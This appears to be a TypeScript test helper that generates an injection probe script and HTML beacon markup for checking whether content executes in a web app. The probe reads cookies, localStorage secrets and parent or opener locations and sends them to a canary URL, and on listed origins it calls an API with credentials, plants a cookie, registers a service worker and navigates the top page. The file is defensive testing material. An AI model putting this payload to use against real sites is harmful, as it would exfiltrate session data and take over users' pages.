export type Ran = {
  /** The origin with which it ran: `null` in a sandbox. */
  origin: string;
  at: string;
  cookie?: string;
  stored?: string;
  parent?: string;
  opener?: string;
};

/**
 * A script that reports where it runs and what it can read, and has effects where it runs at one of
 * `ourOrigins`. It works as a classic script, module, worker and service worker, and contains no
 * `<`, `&` or `"`, so that it can stand unescaped in HTML, XML and attributes.
 */
export const probe = (canary: string, ourOrigins: string[]): string =>
  `(function(){var s=self,d=s.document,r={origin:s.origin,at:String(s.location)};
function say(k,o){fetch('${canary}/'+k+'?'+encodeURIComponent(JSON.stringify(o)),{mode:'no-cors',keepalive:true})}
function read(n,f){try{r[n]=String(f())}catch(e){r[n]='!'+e.name}}
if(d){read('cookie',function(){return d.cookie});read('stored',function(){return localStorage.secret});
read('parent',function(){return s.parent.location.href});read('opener',function(){return s.opener.location.href})}
say('ran',r);
[${ourOrigins.map((ourOrigin) => `'${ourOrigin}'`)}].forEach(function(v){if(r.at.indexOf(v)!==0)return;
function did(what){return function(){say('did',{what:what,at:r.at})}}
fetch('/api/v1/limits',{credentials:'include'}).then(did('called the API'));
if(!d)return;
try{d.cookie='planted=1;path=/'}catch(e){}
try{navigator.serviceWorker.register(r.at).then(did('registered a service worker'))}catch(e){}
try{s.open('${canary}/did?%7B%22what%22:%22opened a popup%22%7D')}catch(e){}
try{s.top.location='${canary}/did?%7B%22what%22:%22navigated the top page%22%7D'}catch(e){}
})})()`.replaceAll('\n', '');

/** Markup that reports without a script when it is shown as HTML. */
export const marks = (canary: string): string =>
  `<img src="${canary}/shown?img"><link rel="stylesheet" href="${canary}/shown?style">` +
  `<meta http-equiv="refresh" content="0;url=${canary}/shown?refresh">`;
